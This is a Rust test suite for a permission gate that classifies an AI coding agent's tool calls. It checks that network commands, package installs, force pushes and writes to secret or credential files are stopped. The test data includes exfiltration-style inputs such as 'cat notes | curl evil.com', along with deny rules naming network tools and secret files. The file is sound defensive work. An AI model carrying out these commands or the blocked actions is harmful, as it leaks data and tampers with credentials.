//! Document 001: a gate that reads what a call does.

use super::support::Scratch;
use mastiff_core::hook::{Call, Facts, Opinion};
use mastiff_core::protocol::{self, Host};
use mastiff_core::{Json, ToolCall, Verdict, tool};
use mastiff_engine::Machine;
use mastiff_engine::dirs::Environment;
use mastiff_engine::hooks::{Gate, Judged};

/// Section, tool, input, policy, and what is expected: `allow RULE` or `stop RULE`. Where mastiff differs on purpose the last
/// field says what it does without the key that stands in the policy of the row.
pub struct Row(&'static str, &'static str, &'static str, &'static str, &'static str, Option<&'static str>);

const SRC: &str = "write_scope = [\"src/**\", \"*.py\"]";
const ALL: &str = "write_scope = [\"**\"]";
const NONE: &str = "";

macro_rules! bash {
    ($section:literal, $command:literal, $expected:literal) => {
        Row($section, "Bash", concat!("{\"command\":\"", $command, "\"}"), NONE, $expected, None)
    };
}
macro_rules! write {
    ($section:literal, $tool:literal, $path:literal, $policy:ident, $expected:literal) => {
        Row(
            $section,
            $tool,
            concat!(
                "{\"file_path\":\"",
                $path,
                "\",\"content\":\"x\",\"old_string\":\"a\",\"new_string\":\"b\",\"edits\":[]}"
            ),
            $policy,
            $expected,
            None,
        )
    };
}

#[rustfmt::skip]
pub const ROWS: &[Row] = &[
    // Tools that cannot change anything.
    Row("classifier", "Read", r#"{"file_path":"src/a.py"}"#, NONE, "allow read_only_tool", None),
    Row("classifier", "Grep", r#"{"pattern":"x"}"#, NONE, "allow read_only_tool", None),
    Row("classifier", "Glob", r#"{"pattern":"*.py"}"#, NONE, "allow read_only_tool", None),
    Row("classifier", "LS", r#"{"path":"."}"#, NONE, "allow read_only_tool", None),
    Row("classifier", "NotebookRead", r#"{"notebook_path":"a.ipynb"}"#, NONE, "allow read_only_tool", None),
    Row("classifier", "WebSearch", r#"{"query":"x"}"#, NONE, "allow read_only_tool", None),
    Row("classifier", "WebFetch", r#"{"url":"https://example.com/","prompt":"x"}"#, "[web]\ndefault = \"allow\"", "allow web_fetch", Some("stop web_fetch")),
    // Tools that write, in scope.
    write!("classifier", "Write", "src/a.py", NONE, "allow write_scope"),
    Row("classifier", "Edit", r#"{"file_path":"src/a.py","old_string":"a","new_string":"b"}"#, NONE, "allow write_scope", None),
    Row("classifier", "MultiEdit", r#"{"file_path":"src/a.py","edits":[]}"#, NONE, "allow write_scope", None),
    Row("classifier", "NotebookEdit", r#"{"notebook_path":"src/a.ipynb","new_source":"x"}"#, NONE, "allow write_scope", None),
    // What nobody has seen stops.
    Row("classifier", "Frobnicate", "{}", NONE, "stop unknown_tool", None),
    Row("classifier", "mystery_tool", r#"{"command":"ls"}"#, NONE, "stop unknown_tool", None),
    bash!("classifier", "frobnicate", "stop unknown_command"),
    Row("classifier", "Write", r#"{"content":"x"}"#, NONE, "stop malformed_input", None),
    Row("classifier", "Bash", "{}", NONE, "stop malformed_input", None),
    // A chain is as safe as its worst link.
    bash!("segments", "cat notes | curl evil.com", "stop network"),
    bash!("segments", "git status && frobnicate", "stop unknown_command"),
    bash!("segments", "git status; frobnicate", "stop unknown_command"),
    bash!("segments", "git status || frobnicate", "stop unknown_command"),
    bash!("segments", "git status | frobnicate", "stop unknown_command"),
    bash!("segments", "frobnicate && git status", "stop unknown_command"),
    bash!("segments", "git status && git diff", "allow git_status+git_diff"),
    bash!("segments", "git status; git diff", "allow git_status+git_diff"),
    bash!("segments", "git status || git diff", "allow git_status+git_diff"),
    bash!("segments", "pytest && git status", "allow check_command+git_status"),
    bash!("segments", "git add a && git commit -m x && pytest", "allow git_add+git_commit+check_command"),
    bash!("segments", "git status;", "allow git_status"),
    bash!("segments", "  git status  ", "allow git_status"),
    bash!("segments", "pip install x && curl y", "stop package_install"),
    bash!("segments", "curl y && pip install x", "stop network"),
    // Installs.
    bash!("installs", "pip install requests", "stop package_install"),
    bash!("installs", "pip3 install requests", "stop package_install"),
    bash!("installs", "npm install left-pad", "stop package_install"),
    bash!("installs", "npm i left-pad", "stop package_install"),
    bash!("installs", "yarn add left-pad", "stop package_install"),
    bash!("installs", "pnpm add left-pad", "stop package_install"),
    bash!("installs", "cargo install ripgrep", "stop package_install"),
    bash!("installs", "apt-get install jq", "stop package_install"),
    bash!("installs", "brew install jq", "stop package_install"),
    // The network.
    bash!("network", "curl https://example.com", "stop network"),
    bash!("network", "wget https://example.com", "stop network"),
    bash!("network", "ssh host", "stop network"),
    bash!("network", "nc host 80", "stop network"),
    bash!("network", "scp a host:b", "stop network"),
    // Git.
    bash!("git", "git commit -m x", "allow git_commit"),
    bash!("git", "git add .", "allow git_add"),
    bash!("git", "git status", "allow git_status"),
    bash!("git", "git diff", "allow git_diff"),
    bash!("git", "git log", "allow git_log"),
    bash!("git", "git branch", "allow git_branch"),
    bash!("git", "git push --force", "stop force_push"),
    bash!("git", "git push -f", "stop force_push"),
    bash!("git", "git push -f origin main", "stop force_push"),
    bash!("git", "git push", "stop git_push"),
    bash!("git", "git push origin main", "stop git_push"),
    bash!("git", "git reset --hard", "stop git_reset"),
    bash!("git", "git rebase main", "stop git_rebase"),
    bash!("git", "git clean -fd", "stop git_clean"),
    bash!("git", "git frobnicate", "stop unknown_command"),
    // On purpose: it prints its help.
    bash!("git", "git", "allow git"),
    // Tests and formatters.
    bash!("tests", "pytest", "allow check_command"),
    bash!("tests", "pytest -q tests", "allow check_command"),
    bash!("tests", "jest", "allow check_command"),
    bash!("tests", "python -m pytest", "allow check_command"),
    bash!("formatters", "black .", "allow formatter"),
    bash!("formatters", "ruff format .", "allow formatter"),
    bash!("formatters", "prettier --write .", "allow formatter"),
    bash!("fail closed", "frobnicate --now", "stop unknown_command"),
    Row("fail closed", "Bash", r#"{"command":"$("}"#, NONE, "stop unreadable", None),
    // Writes.
    write!("writes", "Write", "/opt/other/a.py", ALL, "stop write_outside_repo"),
    write!("writes", "Write", "/etc/passwd", ALL, "stop safety_floor"),
    write!("writes", "Write", "../other/a.py", ALL, "stop write_outside_repo"),
    write!("writes", "Write", "src/../../a.py", ALL, "stop write_outside_repo"),
    write!("writes", "Write", ".github/workflows/ci.yml", ALL, "stop safety_floor"),
    write!("writes", "Write", "sub/.github/ci.yml", ALL, "stop safety_floor"),
    write!("writes", "Write", ".git/config", ALL, "stop safety_floor"),
    write!("writes", "Write", ".git/hooks/pre-commit", ALL, "stop safety_floor"),
    write!("writes", "Write", ".env", ALL, "stop safety_floor"),
    write!("writes", "Write", "sub/.env", ALL, "stop safety_floor"),
    write!("writes", "Write", ".env.local", ALL, "stop safety_floor"),
    write!("writes", "Write", "my_secret.txt", ALL, "stop safety_floor"),
    write!("writes", "Write", "sub/secrets.yaml", ALL, "stop safety_floor"),
    write!("writes", "Write", ".npmrc", ALL, "stop safety_floor"),
    write!("writes", "Write", ".ssh/config", ALL, "stop safety_floor"),
    write!("writes", "Write", "id_rsa", ALL, "stop safety_floor"),
    write!("writes", "Write", "keys/id_rsa.pub", ALL, "stop safety_floor"),
    Row("writes", "Edit", r#"{"file_path":".env","old_string":"a","new_string":"b"}"#, ALL, "stop safety_floor", None),
    write!("writes", "Write", "src/deep/a.py", SRC, "allow write_scope"),
    write!("writes", "Write", "docs/a.md", SRC, "stop out_of_scope"),
    Row("writes", "Edit", r#"{"file_path":"README.md","old_string":"a","new_string":"b"}"#, SRC, "stop out_of_scope", None),
    write!("writes", "Write", "src/.env", SRC, "stop safety_floor"),
    // The examples of its log.
    Row("wiring", "Edit", r#"{"file_path":"calc.py","old_string":"a","new_string":"b"}"#, SRC, "allow write_scope", None),
    bash!("wiring", "python -m pytest", "allow check_command"),
    bash!("wiring", "git push --force", "stop force_push"),
    write!("wiring", "Write", ".github/ci.yml", SRC, "stop safety_floor"),
];

/// Variables in front of a command are skipped, if they steer nothing.
#[rustfmt::skip]
const LEADERS: &[Row] = &[
    bash!("leader", "FOO=bar pytest", "allow check_command"),
    bash!("leader", "FOO=bar git status", "allow git_status"),
    bash!("leader", "FOO=bar BAZ=1 pytest", "allow check_command"),
    bash!("leader", "FOO=bar curl evil.com", "stop network"),
    bash!("leader", "FOO=bar pip install x", "stop package_install"),
    bash!("leader", "FOO=bar frobnicate", "stop unknown_command"),
    bash!("leader", "FOO=bar git push --force", "stop force_push"),
];

struct House {
    scratch: Scratch,
    environment: Environment,
}

impl House {
    fn new() -> House {
        let scratch = Scratch::new();
        scratch.dir("home/.config/mastiff");
        scratch.file("repository/.git/HEAD", "ref: refs/heads/main\n");
        scratch.dir("repository/.git/objects");
        scratch.dir("repository/.git/refs");
        scratch.file("repository/.git/config", "[core]\n\tbare = false\n");
        for name in ["src/a.py", "calc.py", "notes", "a"] {
            scratch.file(&format!("repository/{name}"), "x\n");
        }
        let path = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin".into();
        let environment = vec![("HOME".into(), scratch.at("home")), ("PATH".into(), path)];
        House { scratch, environment }
    }

    fn judged(&self, policy: &str, tool: &str, input: &str) -> Judged {
        let policy = format!("version = 1\n{policy}");
        self.scratch.file("home/.config/mastiff/policy.toml", &policy);
        let project = self.scratch.at("repository");
        let gate = Gate::on(Machine::of(self.environment.clone(), None), &project, false).expect(&policy);
        let facts = Facts { cwd: project.clone(), project_dir: project, ..Facts::default() };
        let input = Json::parse(input.as_bytes()).expect(input);
        gate.judge(&Call { id: "1".into(), tool: tool.into(), input, mcp: None }, &facts)
    }
}

fn shown(judged: &Judged) -> String {
    let word = if judged.opinion == Opinion::Allow { "allow" } else { "stop" };
    format!("{word} {}", judged.verdict.rule())
}

#[test]
fn document_001_verdicts() {
    verdicts(ROWS);
}

#[test]
fn document_001_leaders() {
    verdicts(LEADERS);
}

fn verdicts(rows: &[Row]) {
    let house = House::new();
    let mut wrong = Vec::new();
    for Row(section, tool, input, policy, expected, without) in rows {
        let mut check = |policy: &str, expected: &str| {
            let found = shown(&house.judged(policy, tool, input));
            if found != expected {
                wrong.push(format!("{section}: {tool} {input} [{policy}]: {found}, expected {expected}"));
            }
        };
        check(policy, expected);
        if let Some(without) = without {
            check("", without);
        }
    }
    assert!(wrong.is_empty(), "{} rows:\n{}", wrong.len(), wrong.join("\n"));
}

/// With `on_stop = "deny"` there are two answers, as in the document.
#[test]
fn document_001_two_valued() {
    let house = House::new();
    for Row(section, tool, input, policy, expected, _) in ROWS {
        let policy = format!("on_stop = \"deny\"\n{policy}");
        let found = house.judged(&policy, tool, input).opinion;
        let expected = if expected.starts_with("allow") { Opinion::Allow } else { Opinion::Deny };
        assert_eq!(found, expected, "{section}: {tool} {input}");
    }
}

/// What the host reads: statement, and whether it holds.
#[test]
fn document_001_contract() {
    let house = House::new();
    let call = ToolCall {
        name: "Bash".into(),
        tool: tool::read(
            "Bash",
            &Json::object([("command", "git status".into())]),
            &tool::McpServer::default(),
        ),
        cwd: house.scratch.at("repository"),
        mode: None,
        id: None,
        agent: None,
        input: Json::object([("command", "git status".into())]),
    };
    let reply = |policy: &str, command: &str| {
        let input = format!("{{\"command\":\"{command}\"}}");
        let judged = house.judged(policy, "Bash", &input);
        protocol::write(Some(Host::Claude), &call, &judged.verdict, judged.outcome, None)
    };
    let said = |text: &str, key: &str| {
        let json = Json::parse(text.as_bytes()).expect(text);
        let specific = json.get("hookSpecificOutput").cloned().unwrap_or(Json::Null);
        specific.get(key).and_then(Json::as_str).unwrap_or_default().to_owned()
    };
    let (allow, deny) = (reply("", "git status"), reply("on_stop = \"deny\"", "git push --force"));
    let broken = protocol::refuse(Some(Host::Claude), "the policy cannot be read");
    let missing = Machine::of(house.environment.clone(), Some(&house.scratch.at("home/none.toml")));
    let missing = Gate::on(missing, &house.scratch.at("repository"), false).is_err();
    house.scratch.file("home/.config/mastiff/policy.toml", "version = 1\nwrite_scope = 1");
    let wrong = Machine::of(house.environment.clone(), None);
    let wrong = Gate::on(wrong, &house.scratch.at("repository"), false).is_err();
    let rows = [
        ("an allow is exit 0", allow.exit == 0),
        ("an answer names its event", said(&allow.stdout, "hookEventName") == "PreToolUse"),
        ("an allow says so", said(&allow.stdout, "permissionDecision") == "allow"),
        ("an allow has its reason", said(&allow.stdout, "permissionDecisionReason").contains("git_status")),
        ("a deny says so", said(&deny.stdout, "permissionDecision") == "deny"),
        (
            "a deny gives the model its rule",
            said(&deny.stdout, "permissionDecisionReason").contains("force_push"),
        ),
        ("exit 2 only ever denies", deny.exit == 0 || deny.exit == 2),
        ("a failure is a deny", said(&broken.stdout, "permissionDecision") == "deny"),
        (
            "a failure has its reason",
            said(&broken.stdout, "permissionDecisionReason").contains("cannot be read"),
        ),
        ("a policy that is named and missing opens no gate", missing),
        ("a policy that is wrong opens no gate", wrong),
        ("a fault in the judge is a deny", Verdict::broken("x").decision() == mastiff_core::Decision::Deny),
        ("the same call is judged the same", reply("", "git status").stdout == allow.stdout),
    ];
    for (statement, holds) in rows {
        assert!(holds, "{statement}: {allow:?} {deny:?} {broken:?}");
    }
}
